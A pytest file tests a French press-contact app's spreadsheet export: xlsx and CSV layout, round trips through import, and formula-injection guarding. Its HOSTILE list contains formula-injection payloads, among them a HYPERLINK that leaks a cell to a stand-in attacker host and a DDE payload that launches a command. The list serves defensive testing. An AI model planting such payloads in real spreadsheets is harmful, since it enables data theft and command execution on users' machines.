"""Spreadsheet export: layout, round trip through the import pipeline, no formula ever."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fiac_press_desk.domain.contact import ContactData, EmailAddress, Phone, PostalAddress, WebLink
from fiac_press_desk.domain.enums import ContactKind, LawfulBasis, MatchKind
from fiac_press_desk.interchange.exporters import ExportOptions, available_formats, export_contacts
from fiac_press_desk.interchange.pipeline import apply_plan, build_plan
from fiac_press_desk.interchange.spreadsheet_export import csv_guard, join_values
from fiac_press_desk.interchange.spreadsheet_import import parse_spreadsheet, split_values
from fiac_press_desk.services import Services
from fiac_press_desk.services.contact_queries import ContactFilter
from fiac_press_desk.services.demo_data import generate_contacts

HOSTILE = [
    '=HYPERLINK("http://attacker.example.org/?leak="&A2,"Cliquez ici")',
    "+33 6 12 34 56 78 est son numéro",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=déjà protégé",
]


def _hostile_contacts(services: Services) -> list[int]:
    ids = [
        services.contacts.create(
            ContactData(
                given_name=HOSTILE[i % len(HOSTILE)],
                family_name=f"Hostile{i}",
                organization=HOSTILE[(i + 1) % len(HOSTILE)],
                job_title=HOSTILE[(i + 2) % len(HOSTILE)],
                notes=HOSTILE[(i + 3) % len(HOSTILE)],
                tags=[f"-tag{i}"],
                lists=[f"=list{i}"],
                emails=[EmailAddress(f"hostile{i}@example.org", "work")],
                phones=[Phone("+44 20 7946 0958", "work")],
                addresses=[PostalAddress("work", street="=2+3 rue du Piège", city="@Nice")],
                birthday="--05-12" if i % 2 else "1975-03-15",
            )
        )
        for i in range(len(HOSTILE))
    ]
    return ids


def _no_formula_in(path: Path) -> None:
    """Every cell of every sheet is a plain value: no <f> element, no formula data type."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (cell.coordinate, cell.value)


def test_formats_are_registered() -> None:
    assert {"xlsx", "csv"} <= set(available_formats())


def test_no_exported_xlsx_cell_is_a_formula(services: Services, tmp_path: Path) -> None:
    ids = _hostile_contacts(services)
    out = tmp_path / "hostile.xlsx"
    assert export_contacts(services, ids, "xlsx", out) == len(ids)
    _no_formula_in(out)
    book = load_workbook(out)
    values = {c.value for row in book["Contacts"].iter_rows() for c in row}
    for contact in services.contacts.get_many(ids):  # as stored (validation trims tabs)
        for text in (contact.given_name, contact.organization, contact.job_title, contact.notes):
            assert text in values  # kept verbatim, only made inert
    assert "=list0" in {c.value for row in book["Listes"].iter_rows() for c in row}


@pytest.mark.parametrize("dialect", ["excel-fr", "plain"])
def test_no_exported_csv_cell_starts_a_formula(
    services: Services, tmp_path: Path, dialect: str
) -> None:
    ids = _hostile_contacts(services)
    out = tmp_path / "hostile.csv"
    export_contacts(services, ids, "csv", out, ExportOptions(csv_dialect=dialect))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (dialect == "excel-fr")
    text = raw.decode("utf-8-sig")
    rows = list(
        csv.reader(text.splitlines(keepends=True), delimiter=";" if dialect == "excel-fr" else ",")
    )
    cells = [c for row in rows for c in row]
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells)
    assert "'" + HOSTILE[0] in cells and "''=déjà protégé" in cells
    # and the import takes the guard off again
    records = [r for r in parse_spreadsheet(out)]
    given = {r.data.given_name for r in records}  # type: ignore[union-attr]
    assert set(HOSTILE[:3]) <= given


def test_xlsx_layout(services: Services, tmp_path: Path) -> None:
    services.lists.create("Journalistes santé", "Les spécialistes santé")
    ids = services.contacts.create_many(
        [
            ContactData(
                kind=ContactKind.PARTNER,
                civility="Dr",
                given_name="Claire",
                family_name="Fontaine",
                organization="CHU de Nice",
                emails=[
                    EmailAddress("c.fontaine@example.fr", "work"),
                    EmailAddress("claire@example.org", "home"),
                ],
                phones=[Phone("0493000000", "work"), Phone("0612345678", "mobile")],
                lists=["Journalistes santé"],
                tags=["Santé, IA"],
                birthday="1975-03-15",
                lawful_basis=LawfulBasis.CONSENT,
            )
        ]
    )
    out = tmp_path / "contacts.xlsx"
    export_contacts(services, ids, "xlsx", out)
    book = load_workbook(out)
    assert book.sheetnames == ["Contacts", "Listes"]
    sheet = book["Contacts"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["ID", "Type", "Civilité", "Prénom", "Nom"]
    assert all(c.font.bold for c in sheet[1])
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["ID"] == ids[0]
    assert row["Type"] == "Partenaire"
    assert row["Courriels"] == "c.fontaine@example.fr (pro); claire@example.org (perso)"
    assert row["Téléphones"] == "04 93 00 00 00 (pro); 06 12 34 56 78 (portable)"
    assert row["Étiquettes"] == "Santé, IA;"
    assert row["Base légale"] == "Consentement"
    assert row["Désinscrit"] == "Non"
    birthday = sheet.cell(row=2, column=header.index("Date de naissance") + 1)
    assert birthday.is_date and birthday.value.date() == date(1975, 3, 15)
    assert all((sheet.column_dimensions[col].width or 0) >= 8 for col in "ABCDEFGH")
    lists = [[c.value for c in r] for r in book["Listes"].iter_rows()]
    assert lists[1] == ["Journalistes santé", "Les spécialistes santé", 1, 1]

    english = tmp_path / "contacts_en.xlsx"
    export_contacts(services, ids, "xlsx", english, ExportOptions(language="en"))
    book = load_workbook(english)
    assert book.sheetnames == ["Contacts", "Lists"]
    assert [c.value for c in book["Contacts"][1]][:5] == [
        "ID",
        "Type",
        "Honorific",
        "First name",
        "Last name",
    ]


def test_joined_values_split_back() -> None:
    for values in (["a"], ["Santé, IA"], ["Santé, IA", "Oncologie"], ["x", "y", "z"]):
        assert split_values(join_values(values)) == values
    assert csv_guard("-2") == "'-2" and csv_guard("Dupont") == "Dupont"


def _import(services: Services, path: Path) -> tuple[dict[str, int], object]:
    plan = build_plan(services, parse_spreadsheet(path), sources=[str(path)], format="xlsx")
    return plan.counts(), plan


def test_round_trip_changes_nothing_and_an_edit_is_one_update(
    services: Services, tmp_path: Path
) -> None:
    from fiac_press_desk.services.demo import fill

    fill(services, 60)
    contacts = list(generate_contacts(3, seed=7))
    contacts[0].addresses.append(PostalAddress("home", "3 rue Basse", "Bât. B", "06000", "Nice"))
    contacts[1].urls = [WebLink("https://example.org/@x", "mastodon")]
    contacts[1].display_name = "Rédaction Sciences"
    contacts[2].notes = '=HYPERLINK("x")\nseconde ligne'
    contacts[2].phones.append(Phone("+44 20 7946 0958", "fax"))
    services.contacts.create_many(contacts)
    _hostile_contacts(services)
    ids = services.contact_queries.ids(ContactFilter(archived=None))
    before = {c.id: c for c in services.contacts.get_many(ids)}
    out = tmp_path / "export.xlsx"
    export_contacts(services, ids, "xlsx", out)

    counts, plan = _import(services, out)
    changed = [
        (i.place.row, i.kind, i.changes) for i in plan.items if i.kind is not MatchKind.UNCHANGED
    ]  # type: ignore[attr-defined]
    assert changed == []
    assert counts["unchanged"] == len(ids)
    result = apply_plan(services, plan)  # type: ignore[arg-type]
    assert (result.created, result.updated) == (0, 0)
    assert {c.id: c for c in services.contacts.get_many(ids)} == before

    # One edited cell: exactly one update, of that field, of that contact.
    book = load_workbook(out)
    sheet = book["Contacts"]
    header = [c.value for c in sheet[1]]
    target = sheet.cell(row=5, column=header.index("Fonction") + 1)
    target.value = "Cheffe de rubrique santé"
    edited_id = sheet.cell(row=5, column=1).value
    book.save(out)
    counts, plan = _import(services, out)
    updates = [i for i in plan.items if i.kind is MatchKind.UPDATE]  # type: ignore[attr-defined]
    assert len(updates) == 1 and updates[0].existing_id == edited_id
    assert updates[0].changes == ["job_title"] and updates[0].place.row == 5
    assert counts["unchanged"] == len(ids) - 1
    apply_plan(services, plan)  # type: ignore[arg-type]
    assert services.contacts.get(edited_id).job_title == "Cheffe de rubrique santé"


@pytest.mark.parametrize("dialect", ["excel-fr", "plain"])
def test_csv_round_trip_changes_nothing(services: Services, tmp_path: Path, dialect: str) -> None:
    services.contacts.create_many(list(generate_contacts(40, seed=3)))
    ids = services.contact_queries.ids(ContactFilter(archived=None))
    out = tmp_path / "export.csv"
    export_contacts(services, ids, "csv", out, ExportOptions(csv_dialect=dialect))
    plan = build_plan(services, parse_spreadsheet(out), sources=[str(out)], format="csv")
    assert plan.counts()["unchanged"] == len(ids), [
        (i.place.row, i.changes) for i in plan.items if i.changes
    ]


def test_export_to_a_stream_and_an_empty_selection(services: Services, tmp_path: Path) -> None:
    import io

    buffer = io.BytesIO()
    assert export_contacts(services, [], "xlsx", buffer) == 0
    path = tmp_path / "empty.xlsx"
    path.write_bytes(buffer.getvalue())
    assert next(c.value for c in load_workbook(path)["Contacts"][1]) == "ID"
    buffer = io.BytesIO()
    export_contacts(services, [], "csv", buffer)
    assert re.match(r"^\ufeffID;Type;", buffer.getvalue().decode("utf-8"))


def test_the_export_hands_the_collector_back(services: Services, tmp_path: Path) -> None:
    """Run bare, the export sets its rows aside from full collections, then hands them back."""
    import gc

    gc.unfreeze()
    services.contacts.create_many(list(generate_contacts(30)))
    ids = services.contact_queries.ids(ContactFilter(archived=None))
    assert export_contacts(services, ids, "xlsx", tmp_path / "c.xlsx") == 30
    assert export_contacts(services, ids, "csv", tmp_path / "c.csv") == 30
    assert gc.get_freeze_count() == 0


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_the_export_lets_go_of_its_rows_a_slice_at_a_time(
    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    """The rows of an export freed all at once as it returned held the interpreter lock for
    70 ms at 20,000 contacts (the window frozen at the end of each export): the list of
    them is emptied by ``release_in_steps`` before the export returns."""
    from fiac_press_desk.interchange import collector, json_export
    from fiac_press_desk.interchange import spreadsheet_export as sheets

    services.contacts.create_many(list(generate_contacts(40)))
    ids = services.contact_queries.ids(ContactFilter(archived=None))
    released: list[tuple[int, int]] = []  # (length given, length left)
    release = collector.release_in_steps

    def watched(items: list[object]) -> None:
        given = len(items)
        release(items)
        released.append((given, len(items)))

    for module in (sheets, json_export, collector):
        monkeypatch.setattr(module, "release_in_steps", watched)
    assert export_contacts(services, ids, fmt, tmp_path / f"c.{fmt}") == len(ids)
    assert (len(ids), 0) in released  # a row for every contact, all let go of


def test_release_in_steps_empties_the_list_a_slice_at_a_time() -> None:
    from fiac_press_desk.interchange.collector import RELEASE_STEP, release_in_steps

    class Watched(list[object]):
        def __delitem__(self, key: slice) -> None:  # type: ignore[override]
            left.append(len(self))
            super().__delitem__(key)

    left: list[int] = []
    kept = object()
    items = Watched([object() for _ in range(RELEASE_STEP * 2 + 3)] + [kept])
    release_in_steps(items)
    assert items == []
    assert left == [RELEASE_STEP * 2 + 4, RELEASE_STEP + 4, 4]  # never more than a step
    release_in_steps(items)  # an empty list: nothing to do
    assert len(left) == 3


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_round_trip_keeps_the_opt_out_date_and_reason(
    services: Services, tmp_path: Path, fmt: str
) -> None:
    when = datetime(2024, 2, 14, 10, 22, 5, tzinfo=UTC)
    kept = services.contacts.create(
        ContactData(given_name="Sophie", family_name="Roux", emails=[EmailAddress("s@example.org")])
    )
    services.contacts.set_opted_out(kept, True, "Ne souhaite plus recevoir nos communiqués", when)
    out = tmp_path / f"export.{fmt}"
    export_contacts(services, [kept], fmt, out)
    # into another desk: the person comes back opted out, with the date and the reason
    from fiac_press_desk.storage.database import Database

    other = Services(Database(f"sqlite:///{tmp_path / 'other.sqlite3'}"), actor="test")
    try:
        plan = build_plan(other, parse_spreadsheet(out), sources=[str(out)], format=fmt)
        apply_plan(other, plan)
        (back,) = other.contacts.get_many(other.contact_queries.ids(ContactFilter()))
    finally:
        other.close()
    assert back.opted_out
    assert back.opted_out_at == when
    assert back.opted_out_reason == "Ne souhaite plus recevoir nos communiqués"
    # and into the same desk: unchanged
    plan = build_plan(services, parse_spreadsheet(out), sources=[str(out)], format=fmt)
    assert plan.counts()["unchanged"] == 1
